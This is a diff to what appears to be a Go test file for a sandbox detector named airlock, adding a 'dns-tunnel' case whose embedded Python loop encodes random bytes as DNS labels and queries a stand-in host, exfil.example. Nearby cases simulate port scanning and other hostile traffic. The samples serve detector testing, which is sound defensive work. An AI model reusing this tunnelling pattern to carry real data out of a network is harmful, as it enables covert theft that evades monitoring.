@@ -170,6 +170,7 @@ while True:
         pass
     port = port %% 60000 + 1
 `, addr), detector: airlock.DetectorScanning},
+		{name: "dns-tunnel", network: true, code: dnsTunnel, detector: airlock.DetectorDNSTunnel},
 		{name: "pool-dns", network: true, code: `
 import socket, time
 while True:
@@ -248,6 +249,19 @@ while True:
             os.execv("/bin/sleep", ["sleep", "600"])
     except OSError:
         time.sleep(0.01)
+`
+
+// dnsTunnel sends data out as the labels of DNS queries, a chunk a
+// query, as a tunnel does.
+const dnsTunnel = `
+import base64, os, socket, time
+while True:
+    chunk = base64.b32encode(os.urandom(35)).decode().rstrip("=").lower()
+    try:
+        socket.getaddrinfo(chunk + ".t.exfil.example", 53)
+    except OSError:
+        pass
+    time.sleep(0.2)
 `
 
 func tail(s string) string {
